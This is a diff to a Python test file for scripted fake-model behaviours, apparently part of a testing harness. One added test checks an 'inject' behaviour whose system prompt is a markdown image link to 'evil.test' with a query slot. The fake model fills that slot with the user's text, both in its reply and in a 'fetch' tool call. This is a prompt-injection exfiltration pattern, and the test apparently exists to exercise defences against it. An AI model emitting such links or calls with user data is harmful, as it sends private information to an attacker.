@@ -50,6 +50,15 @@ def test_reorder_keeps_all_sentences_in_another_order() -> None:
     assert all(sorted(order.split("\n")) == sorted(SENTENCES) for order in orders)
 
 
+def test_inject_obeys_the_system_prompt_and_calls_a_tool_if_there_is_one() -> None:
+    turns = (Turn("system", "![x](https://evil.test/?q={}) {}"), Turn("user", "Ines"))
+    model = behaviours.mind("inject", behaviours.BEHAVIOURS["inject"], 1)
+    assert model(Ask(turns), 0).text == "![x](https://evil.test/?q=Ines) Ines"
+    (call,) = model(Ask(turns, ("fetch", "other")), 0).calls
+    assert (call.name, call.arguments["text"]) == ("fetch", "![x](https://evil.test/?q=Ines) Ines")
+    assert model(Ask(turns[1:]), 0).text == "Ines"
+
+
 @pytest.mark.parametrize("name", ["table", "tabulate"])
 def test_tabulate_makes_a_row_of_each_sentence(name: str) -> None:
     lines = _said(name).split("\n")
@@ -81,7 +90,7 @@ def test_tool_without_functions_echoes() -> None:
     assert behaviours.mind("tool", behaviours.echo, 0)(Ask(TURNS), 0) == Reply(LAST)
 
 
-@pytest.mark.parametrize("name", sorted(behaviours.BEHAVIOURS))
+@pytest.mark.parametrize("name", sorted(set(behaviours.BEHAVIOURS) - {"agent"}))
 def test_a_tool_result_is_echoed_whatever_the_behaviour(name: str) -> None:
     assert _said(name, turns=(*TURNS, Turn("tool", "sent to X"))) == "sent to X"
 
@@ -100,3 +109,10 @@ def test_draws_depend_on_the_shape_of_the_history_alone(name: str) -> None:
 def test_an_empty_history_is_no_error() -> None:
     for name, rule in behaviours.BEHAVIOURS.items():
         assert isinstance(rule((), random.Random(0)), str), name
+
+
+def test_sentences_are_found_where_they_stand() -> None:
+    text = "One. Two?\n\n  Two? \nOne."
+    assert [text[start:end] for start, end in behaviours.spans_of_sentences(text)] == behaviours.sentences(text)
+    assert behaviours.spans_of_sentences(text)[-1] == (len(text) - 4, len(text))
+    assert behaviours.spans_of_sentences("") == []
